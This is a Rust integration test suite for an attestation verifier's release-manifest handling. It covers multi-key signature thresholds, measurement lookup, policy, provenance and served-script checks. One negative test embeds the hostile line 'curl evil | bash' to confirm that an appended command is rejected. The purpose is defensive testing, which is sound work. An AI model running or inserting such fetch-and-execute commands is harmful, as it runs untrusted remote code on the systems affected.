//! Release manifests on the command line: what machines measure is looked up in them, and they count only if every key
//! that the verifier names signed them.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::disallowed_methods,
    reason = "a test"
)]

#[path = "common/boot.rs"]
mod boot;
#[path = "common/quoted.rs"]
mod quoted;

use std::{
    path::PathBuf,
    process::{Command, Output},
};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use boot::{AT, Boot, NONCE, chip, core, key, result, sign, write};
use evidence::{
    Digest, Ed25519Public, UnixSeconds,
    bundle::Bundle,
    core::Core,
    release::{
        Binary, LaunchDigest, PREDICTED, ParavisorRow, Registers, ReleaseManifest, ReleaseSignature, SignedRelease,
        release_message,
    },
};
use quoted::{GUEST_SVN, ID_KEY, Quoted, SVSM_DIGEST};
use ring::signature::KeyPair;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use software_psp::QuoteKey;

/// The two people who release, and somebody else.
const ALICE: u8 = 0xa1;
const BOB: u8 = 0xb0;
const MALLORY: u8 = 0x66;

fn public(of: u8) -> Ed25519Public {
    Ed25519Public::new(key(of).public_key().as_ref().try_into().unwrap()).unwrap()
}

fn hex_of(of: u8) -> String {
    hex::encode(public(of).as_bytes())
}

/// What every machine here measures, by two people.
fn manifest() -> ReleaseManifest {
    let digest = LaunchDigest {
        measurement: [0; 48],
        platform: "qemu".to_owned(),
        vcpus: 2,
        vcpu_type: Some("EPYC-v4".to_owned()),
        guest_features: Some(1),
    };
    let set =
        |boot| Registers { name: boot_name(boot), boot, values: PREDICTED.map(|register| [register; 32]), grub: None };
    ReleaseManifest {
        name: "1.0".to_owned(),
        git_commit: [0x91; 20],
        source_hash: [0x50; 32],
        created: UnixSeconds(1_770_000_000),
        binaries: vec![Binary { program: "enclave".to_owned(), sha256: [0xc0; 32] }],
        launch_digests: vec![digest.clone()],
        svsm_digests: vec![LaunchDigest { measurement: SVSM_DIGEST, ..digest }],
        paravisors: vec![ParavisorRow {
            id_key_digest: ID_KEY,
            family_id: [4; 16],
            image_id: [5; 16],
            min_guest_svn: GUEST_SVN,
        }],
        registers: ["host", "paravisor", "svsm"].map(set).to_vec(),
        policy: None,
        script: [0x5c; 32],
        provenance: vec![],
        release_keys: vec![public(ALICE), public(BOB)],
    }
}

fn boot_name(boot: &str) -> String {
    format!("uki-{boot}")
}

fn signed_by(manifest: &ReleaseManifest, signers: &[u8]) -> SignedRelease {
    let bytes = manifest.to_bytes().unwrap();
    let sign_one = |of: &u8| ReleaseSignature { key: public(*of), value: sign(&key(*of), &release_message(&bytes)) };
    SignedRelease { signatures: signers.iter().map(sign_one).collect(), bytes }
}

fn signed(manifest: &ReleaseManifest) -> Vec<u8> {
    signed_by(manifest, &[ALICE, BOB]).to_bytes().unwrap()
}

fn launched() -> Boot {
    Boot::of(Core { boot: "launch", ..core() })
}

/// A folder with bundle and root, and the program that judges them.
struct Desk {
    dir: tempfile::TempDir,
    root: PathBuf,
}

struct Said {
    exit: i32,
    json: Value,
    text: String,
}

impl Desk {
    fn of(bundle: &Bundle) -> Self {
        let dir = tempfile::tempdir().unwrap();
        write(dir.path(), "bundle.json", bundle.to_bytes().unwrap());
        let root = write(dir.path(), "root.der", chip().ark());
        Self { dir, root }
    }

    fn put(&self, name: &str, bytes: impl AsRef<[u8]>) -> String {
        write(self.dir.path(), name, bytes);
        name.to_owned()
    }

    fn run(&self, command: &[&str], releases: &[&str]) -> Output {
        let mut program = Command::new(env!("CARGO_BIN_EXE_attestation-verifier"));
        program.current_dir(self.dir.path()).args(command).args(["--at", AT, "--trust-root"]).arg(&self.root);
        program.args(releases).output().unwrap()
    }

    /// `bundle` with these arguments about releases.
    fn judge(&self, releases: &[&str]) -> Said {
        let nonce = hex::encode(NONCE);
        Said::of(&self.run(&["bundle", "bundle.json", "--json", "--nonce", &nonce], releases))
    }

    /// The same, with the keys of both people.
    fn judge_by(&self, releases: &[&str]) -> Said {
        let (alice, bob) = (hex_of(ALICE), hex_of(BOB));
        self.judge(&[releases, &["--release-key", &alice, "--release-key", &bob]].concat())
    }

    /// One manifest file, judged by the keys of both people.
    fn judge_file(&self, file: &[u8]) -> Said {
        self.put("release.json", file);
        self.judge_by(&["--release", "release.json"])
    }
}

impl Said {
    fn of(output: &Output) -> Self {
        let text = String::from_utf8_lossy(&output.stderr).into_owned();
        let json = serde_json::from_slice(&output.stdout).unwrap_or(Value::Null);
        Self { exit: output.status.code().unwrap(), json, text }
    }

    fn row(&self, name: &str) -> (&str, &str) {
        let row = self.json["checks"].as_array().unwrap().iter().find(|check| check["name"] == name);
        row.map_or(("absent", ""), |row| (row["outcome"].as_str().unwrap(), row["detail"].as_str().unwrap()))
    }

    fn leaves_open(&self, code: &str) -> bool {
        self.json["notProven"].as_array().unwrap().iter().any(|open| open == code)
    }

    /// Row `release` ends so, saying this, and no release is looked up.
    #[track_caller]
    fn is_refused(&self, exit: i32, said: &str) {
        assert_eq!((self.exit, self.row("release").0), (exit, "fail"), "{:?}", self.row("release"));
        assert!(self.row("release").1.contains(said), "{:?}", self.row("release"));
        assert_eq!(
            self.row("code"),
            ("not_checked", "no release list: what was measured cannot be told to be any code")
        );
        assert_eq!(self.json["grade"], "none");
        assert!(self.leaves_open("code-unknown"));
    }
}

fn machines() -> [(Bundle, &'static str); 4] {
    [
        (launched().bundle(), "launch digest"),
        (Quoted::svsm().bundle(), "svsm"),
        (Quoted::azure().bundle(), "paravisor"),
        (Quoted::host().bundle(), "host"),
    ]
}

#[test]
fn each_way_to_boot_is_looked_up_in_the_manifest() {
    for (bundle, boot) in machines() {
        let desk = Desk::of(&bundle);
        let said = desk.judge_file(&signed(&manifest()));
        assert_eq!((said.exit, said.row("release").0), (0, "pass"), "{boot}: {:?}", said.row("release"));
        assert_eq!(said.row("release").1, "1.0 (2026-02-02, commit 919191919191), signed by all 2 keys that you named");
        // A simulated machine has no grade, whatever it measures.
        assert_eq!(said.row("code").0, "not_checked", "{boot}");
        assert!(said.row("code").1.starts_with("release 1.0: as measured by a machine that is simulated"), "{boot}");
        assert_eq!(
            (said.json["verdict"].as_str(), said.json["grade"].as_str()),
            (Some("accepted (test root)"), Some("none"))
        );
        assert!(said.leaves_open("code-unknown"));
    }
}

#[test]
fn what_no_manifest_lists_fails_whatever_else_it_says() {
    type Change = fn(&mut ReleaseManifest);
    let changes: [Change; 4] = [
        |of| of.launch_digests[0].measurement[47] = 1,
        |of| of.svsm_digests[0].measurement[0] = 1,
        |of| of.paravisors[0].min_guest_svn += 1,
        |of| of.registers[0].values[2] = [0xee; 32],
    ];
    for ((bundle, boot), change) in machines().into_iter().zip(changes) {
        let mut other = manifest();
        change(&mut other);
        let desk = Desk::of(&bundle);
        let said = desk.judge_file(&signed(&other));
        assert_eq!((said.exit, said.row("release").0, said.row("code").0), (5, "pass", "fail"), "{boot}");
        // One release that lists it is enough, and it is named.
        let other = ReleaseManifest { name: "0.9".to_owned(), ..other };
        desk.put("old.json", signed(&other));
        desk.put("release.json", signed(&manifest()));
        let said = desk.judge_by(&["--release", "old.json", "--release", "release.json"]);
        assert_eq!((said.exit, said.row("release").0), (0, "pass"), "{boot}");
        assert!(said.row("code").1.starts_with("release 1.0: "), "{boot}");
    }
    // Registers of another way to boot are none of this one's.
    let mut moved = manifest();
    moved.registers = vec![Registers { boot: "svsm", ..moved.registers[0].clone() }];
    let said = Desk::of(&Quoted::host().bundle()).judge_file(&signed(&moved));
    assert_eq!((said.exit, said.row("code")), (5, ("fail", "no release has registers for boot \"host\"")));
}

#[test]
fn a_manifest_counts_only_if_every_named_key_and_nobody_else_signed_it() {
    let desk = Desk::of(&launched().bundle());
    let good = signed_by(&manifest(), &[ALICE, BOB]);
    let file =
        |signatures: Vec<ReleaseSignature>| SignedRelease { bytes: good.bytes.clone(), signatures }.to_bytes().unwrap();
    let [alice, bob] = [0, 1].map(|at| good.signatures[at].clone());
    let mallory = signed_by(&manifest(), &[MALLORY]).signatures.remove(0);
    desk.judge_file(&file(vec![])).is_refused(3, "not signed by");
    desk.judge_file(&file(vec![alice.clone()])).is_refused(3, &format!("not signed by {}", hex_of(BOB)));
    desk.judge_file(&file(vec![bob.clone()])).is_refused(3, &format!("not signed by {}", hex_of(ALICE)));
    desk.judge_file(&file(vec![alice.clone(), mallory.clone()]))
        .is_refused(3, &format!("signed by {}", hex_of(MALLORY)));
    desk.judge_file(&file(vec![alice.clone(), bob.clone(), mallory])).is_refused(3, "does not list");
    // One person cannot be two.
    desk.judge_file(&file(vec![alice.clone(), alice.clone()])).is_refused(2, "each once");
    let as_bob = ReleaseSignature { value: alice.value, ..bob.clone() };
    desk.judge_file(&file(vec![alice.clone(), as_bob])).is_refused(3, &format!("{} does not verify", hex_of(BOB)));
    // Signatures of another manifest, mixed in.
    let other = signed_by(&ReleaseManifest { name: "1.1".to_owned(), ..manifest() }, &[ALICE, BOB]);
    desk.judge_file(&file(vec![alice, other.signatures[1].clone()])).is_refused(3, "does not verify");
    desk.judge_file(&file(other.signatures)).is_refused(3, "does not verify");
}

#[test]
fn whose_keys_count_is_the_verifier_s_to_say() {
    let desk = Desk::of(&launched().bundle());
    let (alice, bob, mallory) = (hex_of(ALICE), hex_of(BOB), hex_of(MALLORY));
    desk.put("release.json", signed(&manifest()));
    let by = |keys: &[&str]| {
        let keys = keys.iter().flat_map(|key| ["--release-key", key]);
        desk.judge(&["--release", "release.json"].into_iter().chain(keys).collect::<Vec<_>>())
    };
    assert_eq!(by(&[&bob, &alice]).exit, 0, "in any order");
    by(&[&alice]).is_refused(3, &format!("lists {bob}, which you did not name"));
    by(&[&mallory]).is_refused(3, &format!("does not list {mallory}, which you named"));
    by(&[&alice, &bob, &mallory]).is_refused(3, &format!("does not list {mallory}"));
    // A manifest by one of them alone, who names herself alone, is none by both.
    let alone = ReleaseManifest { release_keys: vec![public(ALICE)], ..manifest() };
    desk.put("release.json", signed_by(&alone, &[ALICE]).to_bytes().unwrap());
    by(&[&alice, &bob]).is_refused(3, &format!("does not list {bob}"));
    assert_eq!(
        by(&[&alice]).row("release").1,
        "1.0 (2026-02-02, commit 919191919191), signed by the one key that you named"
    );
    for (keys, what) in
        [(&[][..], "no --release-key"), (&[&*alice, &*alice], "twice"), (&["00"], "64"), (&["gone.pem"], "gone.pem")]
    {
        let said = by(keys);
        assert_eq!((said.exit, said.json.is_null()), (1, true), "{what}");
        assert!(said.text.contains(what) && said.text.contains("fix: "), "{}", said.text);
    }
    // Small order: such a key "verifies" what nobody signed.
    assert_eq!(by(&[&"00".repeat(32)]).exit, 1);
}

#[test]
fn a_key_may_be_named_by_its_file() {
    let desk = Desk::of(&launched().bundle());
    desk.put("release.json", signed(&manifest()));
    let mut arguments = vec!["--release".to_owned(), "release.json".to_owned()];
    for of in [ALICE, BOB] {
        let der = [&hex::decode("302a300506032b6570032100").unwrap()[..], public(of).as_bytes()].concat();
        desk.put(&format!("{of}.der"), der);
        let pem = format!("{of}.pem");
        let made = Command::new("openssl")
            .args(["pkey", "-pubin", "-inform", "DER", "-in", &format!("{of}.der"), "-out", &pem])
            .current_dir(desk.dir.path())
            .status()
            .unwrap();
        assert!(made.success(), "openssl writes the key as PEM");
        arguments.extend(["--release-key".to_owned(), pem]);
    }
    let arguments: Vec<_> = arguments.iter().map(String::as_str).collect();
    let said = desk.judge(&arguments);
    assert_eq!((said.exit, said.row("release").0), (0, "pass"), "{}", said.text);
}

#[test]
fn a_file_that_is_no_manifest_is_malformed_and_named() {
    let desk = Desk::of(&launched().bundle());
    let good = signed(&manifest());
    let text = String::from_utf8(good.clone()).unwrap();
    let of_bytes = |bytes: Vec<u8>| {
        let sign_one = |of: u8| ReleaseSignature { key: public(of), value: sign(&key(of), &release_message(&bytes)) };
        SignedRelease { signatures: [ALICE, BOB].map(sign_one).to_vec(), bytes: bytes.clone() }.to_bytes().unwrap()
    };
    let inner = String::from_utf8(manifest().to_bytes().unwrap()).unwrap();
    for (file, said) in [
        (vec![], "release.json: "),
        (good[..good.len() - 1].to_vec(), "release.json: "),
        (text.replacen("\"release\":", "\"relief\":", 1).into_bytes(), "file.release: this member is missing"),
        (text.replacen('{', "{\"threshold\":1,", 1).into_bytes(), "file.threshold: this member is not known"),
        // Signed by both, and still not the one spelling of what it says.
        (of_bytes(inner.replacen(':', ": ", 1).into_bytes()), "canonical"),
        (of_bytes(inner.replacen("\"v\":1}", "\"v\":1,\"vmpl\":3}", 1).into_bytes()), "release.vmpl"),
        (of_bytes(inner.replacen("\"v\":1}", "\"v\":2}", 1).into_bytes()), "release.v: want 1"),
        (vec![b' '; 96 * 1024 + 1], "release.json: "),
    ] {
        let verdict = desk.judge_file(&file);
        verdict.is_refused(2, said);
        assert!(verdict.row("release").1.starts_with("release.json: "), "{:?}", verdict.row("release"));
    }
}

#[test]
fn a_core_with_other_release_keys_is_of_another_publisher() {
    let of_keys = |keys: &[u8]| {
        let release_keys = keys.iter().map(|of| public(*of)).collect();
        Desk::of(&Boot::of(Core { boot: "launch", release_keys, ..core() }).bundle())
    };
    assert_eq!(of_keys(&[BOB, ALICE]).judge_file(&signed(&manifest())).row("release").0, "pass");
    let other = "core.releaseKeys are not the keys that you named";
    for keys in [&[ALICE][..], &[MALLORY], &[ALICE, BOB, MALLORY]] {
        of_keys(keys).judge_file(&signed(&manifest())).is_refused(6, other);
    }
}

#[test]
fn other_code_than_the_core_claims_is_refused_by_the_manifest() {
    let desk = Desk::of(&launched().bundle());
    let mut other = manifest();
    other.binaries[0].sha256 = [0xc1; 32];
    let said = desk.judge_file(&signed(&other));
    assert_eq!((said.exit, said.row("release").0, said.row("code").0), (6, "pass", "fail"));
    assert!(said.row("code").1.contains("core.claims.codeHash"));
}

#[test]
fn a_listed_launch_digest_of_a_guest_under_debug_says_nothing() {
    let boot = launched();
    let mut bundle = boot.bundle();
    bundle.boot = boot.report(boot.boot_rd(), |request| request.policy |= 1 << 19);
    bundle.fresh = Some(boot.fresh(|request| request.policy |= 1 << 19));
    let said = Desk::of(&bundle).judge_file(&signed(&manifest()));
    assert_eq!((said.exit, said.row("release").0, said.row("code").0), (5, "pass", "not_checked"));
    assert!(said.row("code").1.contains("the host may debug this guest"), "{:?}", said.row("code"));
}

#[test]
fn a_manifest_that_the_bundle_carries_is_worth_what_the_named_keys_make_it() {
    let carrying = |release: SignedRelease| Desk::of(&Bundle { release: Some(release), ..launched().bundle() });
    let (alice, bob) = (hex_of(ALICE), hex_of(BOB));
    let desk = carrying(signed_by(&manifest(), &[ALICE, BOB]));
    let unasked = desk.judge(&[]);
    assert_eq!((unasked.exit, unasked.row("release").0), (0, "not_checked"));
    assert!(unasked.row("release").1.contains("worth nothing until you name the release keys"));
    assert_eq!(unasked.row("code").1, "no release list: what was measured cannot be told to be any code");
    let said = desk.judge_by(&[]);
    assert_eq!((said.exit, said.row("release").0), (0, "pass"));
    assert!(said.row("release").1.contains("; carried by the bundle, and any older one"), "{:?}", said.row("release"));
    assert!(said.row("code").1.starts_with("release 1.0: "));
    // Signed by its own maker, it is as good as none.
    let own = ReleaseManifest { release_keys: vec![public(MALLORY)], ..manifest() };
    let forged = carrying(signed_by(&own, &[MALLORY]));
    assert_eq!(forged.judge(&[]).row("release").0, "not_checked");
    forged.judge_by(&[]).is_refused(3, "bundle.release: release.releaseKeys does not list");
    carrying(signed_by(&manifest(), &[ALICE])).judge_by(&[]).is_refused(3, "bundle.release: not signed by");
    // Whoever names files has said what counts.
    let mut other = manifest();
    other.launch_digests[0].measurement = [9; 48];
    let said = desk.judge_file(&signed(&other));
    assert_eq!((said.exit, said.row("code").0), (5, "fail"));
    assert!(said.row("release").1.ends_with("; the one that the bundle carries is not looked at"));
    assert_eq!(forged.judge_file(&signed(&manifest())).row("release").0, "pass");
    // Keys and nothing that they could have signed.
    let none = Desk::of(&launched().bundle()).judge(&["--release-key", &alice, "--release-key", &bob]);
    assert_eq!((none.exit, none.row("release").0), (5, "not_checked"));
}

#[test]
fn two_manifests_of_one_name_do_not_stand_beside_each_other() {
    let desk = Desk::of(&launched().bundle());
    desk.put("a.json", signed(&manifest()));
    desk.put("b.json", signed(&ReleaseManifest { script: [9; 32], ..manifest() }));
    desk.put("c.json", signed(&manifest()));
    desk.judge_by(&["--release", "a.json", "--release", "b.json"]).is_refused(3, "a.json and b.json are of one name");
    assert_eq!(desk.judge_by(&["--release", "a.json", "--release", "c.json"]).exit, 0, "one file twice is one file");
}

#[test]
fn a_proof_is_judged_with_the_release_of_its_gateway() {
    let boot = launched();
    let bundle = boot.bundle();
    let desk = Desk::of(&bundle);
    desk.put("proof.json", boot.envelope(boot.body(&bundle, &result())).to_value().to_text());
    let (alice, bob) = (hex_of(ALICE), hex_of(BOB));
    let judge = |file: Vec<u8>| {
        desk.put("release.json", file);
        let arguments = ["--release", "release.json", "--release-key", &alice, "--release-key", &bob];
        Said::of(&desk.run(&["proof", "proof.json", "--bundle", "bundle.json", "--json"], &arguments))
    };
    let said = judge(signed(&manifest()));
    assert_eq!((said.exit, said.row("release").0, said.row("proof").0), (0, "pass", "pass"), "{}", said.text);
    let mut other = manifest();
    other.launch_digests[0].measurement = [9; 48];
    assert_eq!(judge(signed(&other)).exit, 5);
    judge(signed_by(&manifest(), &[BOB]).to_bytes().unwrap()).is_refused(3, "not signed by");
}

#[test]
fn explain_has_words_for_a_manifest_that_does_not_count() {
    let desk = Desk::of(&launched().bundle());
    desk.put("release.json", signed_by(&manifest(), &[ALICE]).to_bytes().unwrap());
    let (alice, bob) = (hex_of(ALICE), hex_of(BOB));
    let keys = ["--release", "release.json", "--release-key", &alice, "--release-key", &bob];
    let output = desk.run(&["explain", "bundle", "bundle.json"], &keys);
    let text = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(3));
    assert!(text.contains("Whether every release key that you named signed"), "{text}");
    assert!(text.contains("a file with fewer signatures is a draft"), "{text}");
}

#[test]
fn a_key_of_the_vtpm_is_no_release_key_and_the_manifest_names_the_paravisor_for_the_policy() {
    // What the manifest lists vouches for who runs the vTPM; an unsigned one does not.
    let machine = Quoted::with_core("paravisor", "paravisor", QuoteKey::p256(&mut rsa::rand_core::OsRng), |_| {});
    let desk = Desk::of(&machine.bundle());
    assert_eq!(desk.judge(&[]).row("vtpm").0, "not_checked");
    assert_eq!(desk.judge_file(&signed(&manifest())).row("vtpm").0, "pass");
    let draft = signed_by(&manifest(), &[ALICE]).to_bytes().unwrap();
    assert_eq!(desk.judge_file(&draft).row("vtpm").0, "not_checked");
}

/// What a gateway adds to a bundle: the script, and what it says of it.
fn served(bundle: &Bundle, program: &str, attached: &Bundle, after: &str) -> Vec<u8> {
    let encoded = STANDARD.encode(attached.to_bytes().unwrap());
    let lines: String =
        encoded.as_bytes().chunks(76).map(|line| String::from_utf8(line.to_vec()).unwrap() + "\n").collect();
    let script = format!("{program}{lines}SEALGATE_BUNDLE_BASE64\n{after}");
    let mut value: Value = serde_json::from_slice(&bundle.to_bytes().unwrap()).unwrap();
    value["offlineVerification"] =
        json!({"script": script, "sha256": hex::encode(Sha256::digest(program)), "command": "bash verify.sh"});
    value.to_string().into_bytes()
}

const PROGRAM: &str = "{\necho judging\nexit 0\n} <<'SEALGATE_BUNDLE_BASE64'\n";

fn sha256(bytes: impl AsRef<[u8]>) -> Digest {
    Sha256::digest(bytes).into()
}

#[test]
fn the_served_script_is_that_of_the_release_and_about_this_very_bundle() {
    let bundle = launched().bundle();
    let other = Bundle { event_log: Some(vec![1]), ..bundle.clone() };
    let desk = Desk::of(&bundle);
    let listing = signed(&ReleaseManifest { script: sha256(PROGRAM), ..manifest() });
    let row = |bytes: Vec<u8>| {
        desk.put("bundle.json", bytes);
        let said = desk.judge_file(&listing);
        let row = said.row("release-script");
        (said.exit, row.0.to_owned(), row.1.to_owned())
    };
    let (exit, outcome, detail) = row(served(&bundle, PROGRAM, &bundle, ""));
    assert_eq!((exit, &*outcome), (0, "pass"), "{detail}");
    assert!(detail.starts_with(&hex::encode(sha256(PROGRAM))), "{detail}");
    let lenient = PROGRAM.replace("judging", "accepted");
    for (bytes, said) in [
        (served(&bundle, &lenient, &bundle, ""), "that of release 1.0 "),
        (served(&bundle, PROGRAM, &other, ""), "another bundle than the one"),
        (served(&bundle, PROGRAM, &bundle, "curl evil | bash\n"), "nothing else"),
        (served(&bundle, "echo accepted\n", &bundle, ""), "no line opens"),
    ] {
        let (exit, outcome, detail) = row(bytes);
        assert_eq!((exit, &*outcome), (6, "fail"), "{detail}");
        assert!(detail.contains(said), "{said}: {detail}");
    }
    // A script of the release under another digest: whoever pins what the answer says pins another one.
    let text = String::from_utf8(served(&bundle, PROGRAM, &bundle, "")).unwrap();
    let (exit, outcome, detail) = row(text.replace(&hex::encode(sha256(PROGRAM)), &"0a".repeat(32)).into_bytes());
    assert_eq!((exit, &*outcome), (6, "fail"), "{detail}");
    // Cut out, it is not there; and nobody who names no keys is asked about it.
    let (exit, outcome, _) = row(bundle.to_bytes().unwrap());
    assert_eq!((exit, &*outcome), (0, "not_checked"));
    desk.put("bundle.json", served(&bundle, &lenient, &bundle, ""));
    let unasked = desk.judge(&[]);
    assert_eq!((unasked.exit, unasked.row("release-script").0), (0, "absent"));
}

#[test]
fn a_state_under_another_policy_than_the_release_has_is_refused() {
    let listing = signed(&ReleaseManifest { policy: Some([0x90; 32]), ..manifest() });
    let core = || Core { boot: "launch", ..core() };
    let good = Some([0x90; 32]);
    for (policies, exit, outcome, said) in [
        ([good, good], 0, "pass", "9090"),
        ([None, good], 0, "pass", "9090"),
        ([Some([0x91; 32]), good], 6, "fail", "bundle.states[0].policy is 9191"),
        ([good, Some([0x91; 32])], 6, "fail", "bundle.states[1].policy is 9191"),
        ([good, None], 0, "not_checked", "newest state names no policy"),
        ([None, None], 0, "not_checked", "newest state names no policy"),
    ] {
        let desk = Desk::of(&Boot::under(core(), policies).bundle());
        let found = desk.judge_file(&listing);
        let row = found.row("release-policy");
        assert_eq!((found.exit, row.0), (exit, outcome), "{row:?}");
        assert!(row.1.contains(said), "{row:?}");
        let silent = desk.judge_file(&signed(&manifest()));
        assert_eq!((silent.exit, silent.row("release-policy")), (0, ("not_checked", "the release names no policy")));
    }
}

#[test]
fn a_carried_provenance_file_is_one_that_the_release_lists() {
    let file = b"{}".to_vec();
    let bundle = Bundle { provenance: Some(file.clone()), ..launched().bundle() };
    let desk = Desk::of(&bundle);
    let row = |provenance: Vec<Digest>| {
        let said = desk.judge_file(&signed(&ReleaseManifest { provenance, ..manifest() }));
        let row = said.row("release-provenance");
        (row.0.to_owned(), row.1.to_owned())
    };
    assert_eq!(row(vec![[0; 32], sha256(&file)]).0, "pass");
    let (outcome, detail) = row(vec![[0; 32], [1; 32]]);
    assert_eq!(outcome, "fail");
    assert!(detail.contains("release 1.0 lists 0000"), "{detail}");
    assert_eq!(row(vec![]).1, "the release lists no provenance file");
    let none = Desk::of(&launched().bundle());
    let said = none.judge_file(&signed(&ReleaseManifest { provenance: vec![[0; 32]], ..manifest() }));
    assert_eq!(said.row("release-provenance"), ("not_checked", "the bundle carries no provenance file"));
}

#[test]
fn what_the_measured_release_lists_counts_and_not_what_another_one_named_beside_it_does() {
    let bundle = launched().bundle();
    let desk = Desk::of(&bundle);
    desk.put("bundle.json", served(&bundle, PROGRAM, &bundle, ""));
    let mut elsewhere = ReleaseManifest { name: "0.9".to_owned(), script: sha256(PROGRAM), ..manifest() };
    elsewhere.launch_digests[0].measurement = [9; 48];
    desk.put("a.json", signed(&elsewhere));
    desk.put("b.json", signed(&manifest()));
    let both = ["--release", "a.json", "--release", "b.json"];
    let said = desk.judge_by(&both);
    assert_eq!((said.exit, said.row("release-script").0), (6, "fail"));
    assert!(said.row("release-script").1.contains("that of release 1.0 5c5c"), "{:?}", said.row("release-script"));
    // Of two that measure alike either may be it.
    desk.put("a.json", signed(&ReleaseManifest { launch_digests: manifest().launch_digests, ..elsewhere }));
    let said = desk.judge_by(&both);
    assert_eq!((said.exit, said.row("release-script").0), (0, "pass"), "{:?}", said.row("release-script"));
}

#[test]
fn an_svsm_s_digest_among_those_of_direct_boots_makes_no_manifest() {
    // Whoever runs below that service module could say that it was booted directly.
    let mut mixed = manifest();
    mixed.launch_digests.push(LaunchDigest { measurement: SVSM_DIGEST, ..mixed.launch_digests[0].clone() });
    Desk::of(&launched().bundle()).judge_file(&signed(&mixed)).is_refused(2, "release.svsmDigests: want none");
}
